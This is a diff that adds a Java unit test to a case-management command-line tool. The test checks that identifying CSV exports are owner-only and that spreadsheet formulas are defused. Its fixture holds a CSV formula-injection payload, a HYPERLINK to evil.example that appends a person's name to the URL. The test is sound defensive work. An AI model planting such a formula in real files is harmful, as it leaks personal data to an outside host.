@@ -109,6 +109,24 @@ class CthubCommandLineTest {
     }
 
     @Test
+    void anIdentifyingExportIsOwnerOnlyAndCannotRunFormulasInASpreadsheet() throws IOException {
+        Path file = dir.resolve("comment.csv");
+        Files.writeString(file, "cas_Reference,prs_FirstName,cco_CaseComment\n"
+                + "R-1,Ana,\"=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"click\"\")\"\n");
+        String home = dir.resolve("home").toString();
+        assertThat(cthub("import", file.toString(), "--org", "NGO1", "--home", home).exit()).isZero();
+        Path out = dir.resolve("export.csv");
+        assertThat(cthub("export", "--format", "htcds-csv", "--org", "NGO1", "--out", out.toString(), "--home", home)
+                .exit()).isZero();
+
+        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(out)))
+                .isEqualTo("rw-------");
+        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(
+                Files.getPosixFilePermissions(dir.resolve("home")))).isEqualTo("rwx------");
+        assertThat(Files.readString(out)).contains("'=HYPERLINK(").doesNotContain(",=HYPERLINK(");
+    }
+
+    @Test
     void refusesAnIdentifyingExportWithoutAnOrganisation() {
         Run run = cthub("export", "--format", "htcds-csv", "--out", dir.resolve("x.csv").toString(), "--home",
                 dir.toString());
